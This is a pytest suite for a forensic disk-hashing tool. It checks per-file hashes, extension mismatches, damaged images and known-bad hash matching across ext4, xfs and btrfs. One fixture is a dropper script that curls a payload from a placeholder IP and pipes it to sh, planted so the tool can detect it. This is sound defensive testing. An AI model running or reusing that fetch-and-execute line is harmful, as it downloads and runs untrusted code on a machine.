"""``volforensic hash`` as a user meets it: the kernel's answer for every file, listings, damage, refusals."""

import hashlib
import json
import os
import subprocess
import xml.sax
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from collection_runs import MEBIBYTE, ext4
from command_line import environment, run, triage
from loop_mounts import mounted

SCRIPT = b"#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n"
FILES = {
    "etc/hostname": b"web1\n",
    "etc/empty": b"",
    "usr/bin/tool": SCRIPT,
    "usr/share/text": b"plain text\n" * 1000,
    "srv/large": os.urandom(3 << 20),
    "srv/photo.jpg": SCRIPT,
}


def rows(*arguments: str | Path, status: int = 0) -> list[dict[str, Any]]:
    """Hash with these arguments and return the rows; the exit status is checked."""
    ended = run("hash", *arguments, "-f", "jsonl", "--progress", "none")
    assert ended.returncode == status, ended.stderr
    return [json.loads(line) for line in ended.stdout.splitlines()]


def by_path(found: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {row["path"]: row for row in found if row["type"] == "file" and row["allocated"]}


@pytest.fixture(scope="module")
def disk(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return ext4(tmp_path_factory.mktemp("hash") / "disk.raw", FILES)


def test_every_file_has_its_hash_type_and_what_contradicts_it(disk: Path) -> None:
    found = by_path(rows(disk))
    assert {path: row["sha256"] for path, row in found.items()} == {
        f"/{path}": hashlib.sha256(content).hexdigest() for path, content in FILES.items()
    }
    assert (found["/usr/share/text"]["mime"], found["/usr/share/text"]["encoding"]) == ("text/plain", "us-ascii")
    assert found["/etc/empty"]["mime"] == "inode/x-empty"
    assert found["/srv/photo.jpg"]["mismatch"] == {"extension": "jpg", "expected": "image/jpeg"}
    assert all("mismatch" not in row for path, row in found.items() if path != "/srv/photo.jpg")


def test_further_hashes_of_the_image_and_of_every_file(disk: Path) -> None:
    ended = run("hash", disk, "--hash", "sha1,md5", "-f", "jsonl", "--progress", "plain")
    image = hashlib.sha1(disk.read_bytes(), usedforsecurity=False).hexdigest()
    assert f"sha1  {image}  {disk}" in ended.stderr
    assert hashlib.sha256(disk.read_bytes()).hexdigest() in ended.stderr
    found = by_path([json.loads(line) for line in ended.stdout.splitlines()])
    for path, content in FILES.items():
        row = found[f"/{path}"]
        assert row["md5"] == hashlib.md5(content, usedforsecurity=False).hexdigest(), path
        assert row["sha1"] == hashlib.sha1(content, usedforsecurity=False).hexdigest(), path
        assert "sha512" not in row


def test_a_cut_image_costs_the_files_that_it_hits_and_nothing_else(disk: Path, tmp_path: Path) -> None:
    whole = by_path(rows(disk))
    places = {path: row["extents"][0][1] + row["size"] for path, row in whole.items() if row["extents"]}
    last = max(places, key=places.__getitem__)
    short = tmp_path / "short.raw"
    short.write_bytes(disk.read_bytes()[: places[last] - 5000])
    found = by_path(rows(short, "--no-yara", status=3))
    assert found[last]["problems"]
    assert "sha256" not in found[last]
    assert len(found[last]["sha256_partial"]) == 64
    untouched = {path: row["sha256"] for path, row in whole.items() if path != last}
    assert {path: row["sha256"] for path, row in found.items() if path != last} == untouched
    ended = run("hash", short, "--progress", "plain", "-o", tmp_path / "out")
    assert ended.returncode == 3
    assert last in ended.stderr


BAD_SECTORS = """
import errno, os

BAD = range({start}, {end})
pread, preadv = os.pread, os.preadv


def check(offset, size):
    if offset < BAD.stop and offset + size > BAD.start:
        raise OSError(errno.EIO, "Input/output error")


def failing_pread(descriptor, size, offset):
    check(offset, size)
    return pread(descriptor, size, offset)


def failing_preadv(descriptor, views, offset):
    check(offset, sum(map(len, views)))
    return preadv(descriptor, views, offset)


os.pread, os.preadv = failing_pread, failing_preadv
"""


def test_bad_sectors_cost_the_file_that_they_hit_and_are_told_by_their_place(disk: Path, tmp_path: Path) -> None:
    whole = by_path(rows(disk))
    place = whole["/srv/large"]["extents"][0][1] + (1 << 20)
    module = BAD_SECTORS.format(start=place + 100, end=place + 5000)
    (tmp_path / "sitecustomize.py").write_text(module)
    ended = run("hash", disk, "-f", "jsonl", "--progress", "plain", env=environment(PYTHONPATH=str(tmp_path)))
    assert ended.returncode == 3, ended.stderr
    found = by_path([json.loads(line) for line in ended.stdout.splitlines()])
    damaged = bytearray(FILES["srv/large"])
    damaged[1 << 20 : (1 << 20) + 8192] = bytes(8192)
    assert found["/srv/large"]["sha256_partial"] == hashlib.sha256(damaged).hexdigest()
    assert f"read error at byte {place} of the source" in found["/srv/large"]["problems"][0]
    assert found["/srv/large"]["problems"][0].startswith(f"bytes {1 << 20} to {(1 << 20) + 8192}: ")
    others = {path: row["sha256"] for path, row in whole.items() if path != "/srv/large"}
    assert {path: row["sha256"] for path, row in found.items() if path != "/srv/large"} == others
    image = bytearray(disk.read_bytes())
    start, end = (place + 100) // 4096 * 4096, -(-(place + 5000) // 4096) * 4096
    image[start:end] = bytes(end - start)
    assert hashlib.sha256(image).hexdigest() in ended.stderr
    assert ended.stderr.count("read error: Input/output error") == 1  # sectors side by side are one range


CONSUMERS: dict[str, Callable[[str], object]] = {
    "sha256sum": lambda text: [line.split("  ./", 1) for line in text.splitlines()],
    "bodyfile": lambda text: [line.split("|") for line in text.splitlines()],
    "dfxml": lambda text: xml.sax.parseString(text.encode(), xml.sax.ContentHandler()),  # noqa: S317 - we wrote it
    "json": json.loads,
    "csv": lambda text: text.splitlines()[0].split(","),
    "table": lambda text: text.splitlines(),
}


@pytest.mark.parametrize("name", CONSUMERS)
def test_each_listing_goes_to_standard_output_and_to_a_file(disk: Path, tmp_path: Path, name: str) -> None:
    output = tmp_path / "listing"
    printed = run("hash", disk, "-f", name, "--no-yara", "--progress", "none", "--files-only")
    assert printed.returncode == 0, printed.stderr
    assert run("hash", disk, "-f", name, "--no-yara", "-q", "-o", output, "--files-only").returncode == 0
    CONSUMERS[name](printed.stdout)
    written = output.read_text()
    if name == "dfxml":  # its head holds the command line
        printed.stdout, written = (text[text.index("<volume") :] for text in (printed.stdout, written))
    assert written == printed.stdout


def test_the_bodyfile_has_an_md5_without_being_asked(disk: Path) -> None:
    printed = run("hash", disk, "-f", "bodyfile", "--no-yara", "--progress", "none").stdout
    lines = {line.split("|")[1]: line.split("|") for line in printed.splitlines()}
    assert lines["/usr/bin/tool"][0] == hashlib.md5(SCRIPT, usedforsecurity=False).hexdigest()
    assert {len(line) for line in lines.values()} == {11}


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("--hash", "crc32"), "--hash: 'crc32' is no algorithm that is known here. Choose from md5"),
        (("--known-bad", "{wrong}"), "line 1"),
        (("--yara", "{wrong}"), "wrong"),
        (("-o", "{there}"), "exists, and nothing is overwritten. Replace it with --clobber"),
    ],
)
def test_what_is_wrong_is_refused_before_the_source_is_read(
    tmp_path: Path, arguments: tuple[str, str], said: str
) -> None:
    (tmp_path / "wrong").write_text("not a hash\n")
    (tmp_path / "there").write_text("mine")
    given = [argument.format(wrong=tmp_path / "wrong", there=tmp_path / "there") for argument in arguments]
    ended = run("hash", tmp_path / "no such disk", *given, "--progress", "none", env=environment())
    assert (ended.returncode, said in ended.stderr) == (2, True), ended.stderr
    assert (tmp_path / "there").read_text() == "mine"


def test_a_source_without_a_filesystem(tmp_path: Path) -> None:
    (tmp_path / "zeros").write_bytes(bytes(MEBIBYTE))
    ended = run("hash", tmp_path / "zeros", "-o", tmp_path / "out", "--progress", "none")
    assert ended.returncode == 7
    assert not (tmp_path / "out").exists()


def test_sets_of_known_files(disk: Path, tmp_path: Path) -> None:
    bad, good = tmp_path / "bad.txt", tmp_path / "good.txt"
    bad.write_text(hashlib.sha256(SCRIPT).hexdigest() + "  dropper\n")
    good.write_text(hashlib.md5(FILES["usr/share/text"], usedforsecurity=False).hexdigest() + "\n")
    found = by_path(rows(disk, "--known-bad", bad, "--known-good", good))
    assert found["/usr/bin/tool"]["known"] == found["/srv/photo.jpg"]["known"] == {"good": [], "bad": ["bad.txt"]}
    assert found["/usr/share/text"]["known"] == {"good": ["good.txt"], "bad": []}
    assert "known" not in found["/etc/hostname"]
    case = tmp_path / "case"
    assert triage(disk, case, "--known-bad", str(bad), "--progress", "none").returncode == 0
    (findings,) = case.glob("evidence/*/findings.jsonl")
    told = [json.loads(line) for line in findings.read_text().splitlines()]
    assert ("known-bad-hash", "critical") in {(finding["rule"], finding["severity"]) for finding in told}


MAKERS = {"ext4": ("mkfs.ext4", "-q"), "xfs": ("mkfs.xfs", "-q"), "btrfs": ("mkfs.btrfs", "-q")}
OPTIONS = {"ext4": "noload", "xfs": "norecovery", "btrfs": "nologreplay,rescue=nologreplay"}


@pytest.mark.parametrize("kind", MAKERS)
def test_the_kernel_reads_the_same_of_every_file(tmp_path: Path, kind: str) -> None:
    image = tmp_path / "disk.raw"
    with image.open("wb") as file:
        file.truncate(400 * MEBIBYTE)
    subprocess.run([*MAKERS[kind], image], check=True, capture_output=True)
    options = ["compress=zstd"] if kind == "btrfs" else []
    with mounted(image, tmp_path / "writing", *options) as folder:
        fill(folder)
    found = {row_path(row): row for row in rows(image, "--no-yara") if row["type"] == "file"}
    with mounted(image, tmp_path / "reading", "ro") as folder:
        kernel = {path.relative_to(folder): path for path in folder.rglob("*") if path.is_file()}
        assert set(kernel) == set(found)
        for name, path in kernel.items():
            assert found[name]["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest(), name


def row_path(row: dict[str, Any]) -> Path:
    return Path(row["path"][1:])


def fill(folder: Path) -> None:
    """Write what makes files hard to read: fragments, holes, links, tiny and empty ones, many names."""
    for number in range(300):
        (folder / f"small-{number}").write_bytes(os.urandom(number % 61) * (number % 7))
    with (folder / "fragments").open("wb") as one, (folder / "between").open("wb") as other:
        for _ in range(60):
            for file in (one, other):
                file.write(os.urandom(9000))
                file.flush()
                os.fsync(file.fileno())
    with (folder / "holes").open("wb") as file:
        for place in (0, 5 << 20, 70 << 20, 130 << 20):
            file.seek(place)
            file.write(b"x" * 5000)
        file.truncate(140 << 20)
    (folder / "one").write_bytes(b"linked" * 1000)
    (folder / "two").hardlink_to(folder / "one")
    (folder / "folder").mkdir()
    (folder / "folder" / "compressible").write_bytes(b"the same again and again\n" * 50_000)
    (folder / "name with\nline feed").write_bytes(b"odd name")
